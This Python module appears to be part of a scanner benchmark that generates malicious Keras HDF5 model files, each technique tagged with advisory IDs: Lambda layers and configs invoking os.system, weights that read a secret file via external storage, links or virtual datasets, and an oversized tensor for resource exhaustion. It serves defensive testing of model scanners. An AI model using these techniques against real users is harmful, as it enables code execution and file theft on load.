"""Keras models and weights in HDF5; written with h5py.

Source: the advisories named beside each technique; the HDF5 file format, for external storage.
"""

from __future__ import annotations

import io
import json

from bench.scanner_attacks.keras_attacks import PROGRAM, function, keras_archive, lambda_of, model
from bench.scanner_attacks.techniques import SECRET, Family

FAMILY = Family("Keras")


def _h5(attributes: dict[str, str], kernel: str = "") -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as store:
        for name, value in attributes.items():
            store.attrs[name] = value
        group = store.create_group("model_weights/dense")
        match kernel:
            case "outside":
                group.create_dataset("kernel", shape=(4,), dtype="u1", external=[(SECRET, 0, 4)])
            case "linked":
                group["kernel"] = h5py.ExternalLink("/tmp/other.h5", "/secret")
            case "virtual":
                layout = h5py.VirtualLayout(shape=(4,), dtype="u1")
                layout[:] = h5py.VirtualSource("/tmp/other.h5", "secret", shape=(4,))
                group.create_virtual_dataset("kernel", layout)
            case "huge":
                group.create_dataset("kernel", shape=(50_000_000, 1_000_000), chunks=(1, 1_000))
            case _:
                group["kernel"] = [1.0]
    return buffer.getvalue()


_OLD = {
    "class_name": "Lambda",
    "config": {
        "name": "l",
        "function": [PROGRAM, None, None],
        "function_type": "lambda",
        "module": "__main__",
    },
}
_OLD_MODEL = json.dumps({"class_name": "Sequential", "config": {"layers": [_OLD]}})
FAMILY.add(
    "keras-h5-lambda",
    "model.h5",
    lambda: _h5({"model_config": _OLD_MODEL}),
    "CVE-2025-9905",
    "CVE-2024-3660",
)
FAMILY.add("keras-h5-other-extension", "model.hdf5", lambda: _h5({"model_config": _OLD_MODEL}))
FAMILY.add("keras-h5-renamed", "weights.bin", lambda: _h5({"model_config": _OLD_MODEL}))
FAMILY.add(
    "keras-h5-training-config",
    "model.h5",
    lambda: _h5({"training_config": json.dumps({"loss": function("os", "system")})}),
)
FAMILY.add(
    "keras-h5-import",
    "model.h5",
    lambda: _h5({"model_config": json.dumps(model(lambda_of("os", "system", {})))}),
    "CVE-2025-1550",
)
FAMILY.add(
    "keras-h5-external-storage", "model.weights.h5", lambda: _h5({}, "outside"), "CVE-2026-1669"
)
FAMILY.add("keras-h5-external-link", "model.weights.h5", lambda: _h5({}, "linked"), "CVE-2026-9335")
FAMILY.add(
    "keras-h5-virtual-dataset", "model.weights.h5", lambda: _h5({}, "virtual"), "CVE-2026-12480"
)
FAMILY.add(
    "keras-archive-huge-shape",
    "model.keras",
    lambda: keras_archive(model(), **{"model.weights.h5": _h5({}, "huge")}),
    "CVE-2026-0897",
    least="review",
)
FAMILY.add(
    "keras-archive-external-storage",
    "model.keras",
    lambda: keras_archive(model(), **{"model.weights.h5": _h5({}, "outside")}),
    "CVE-2026-1669",
)
